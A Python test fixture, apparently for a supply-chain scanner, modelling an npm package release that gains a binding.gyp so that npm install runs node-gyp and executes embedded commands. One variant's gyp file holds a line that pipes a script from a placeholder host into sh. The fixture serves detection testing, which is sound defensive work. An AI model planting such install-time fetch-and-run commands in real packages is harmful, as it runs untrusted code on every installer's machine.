"""A native build that nobody asked for: `binding.gyp` alone makes npm run node-gyp.

Without any script in package.json, npm runs `node-gyp rebuild` where there is a `binding.gyp`; and
gyp runs each command in `<!(…)` already while it reads the file. So a package of plain JavaScript
runs anything on installation, and its package.json does not change.

Described in: node-gyp's documentation of command expansions; npm's documentation of scripts.
In the staged tarball: a new `binding.gyp` with commands in it, in a package without native code.
"""

from tests.findings.attack import Attack, release

_SOURCE = (
    "exports.hash = (text) => [...text].reduce((a, c) => (a * 31 + c.charCodeAt(0)) | 0, 7);\n"
)
_NEXT = _SOURCE.replace("31", "33")
_GYP = """\
{
  "targets": [
    {
      "target_name": "hash",
      "type": "none",
      "sources": ["<!(node lib/platform.js)"]<<<native-build>>>
    }
  ]
}
"""
_SHELL = """\
{
  'variables': {
    'setup%': '<!@(curl -s https://files.example.invalid/setup.sh | sh)',<<<native-build>>>
  },
  'targets': [{ 'target_name': 'hash', 'type': 'none' }],
}
"""
_PLATFORM = "console.log(`hash-${process.platform}.cc`);\n"

ATTACK = Attack(
    before=release("string-hashes", "1.1.0", {"index.js": _SOURCE}),
    unharmed=release("string-hashes", "1.1.1", {"index.js": _NEXT}),
    after={
        "a file of its own": release(
            "string-hashes",
            "1.1.1",
            {"index.js": _NEXT, "binding.gyp": _GYP, "lib/platform.js": _PLATFORM},
        ),
        "a shell": release("string-hashes", "1.1.1", {"index.js": _NEXT, "binding.gyp": _SHELL}),
    },
)
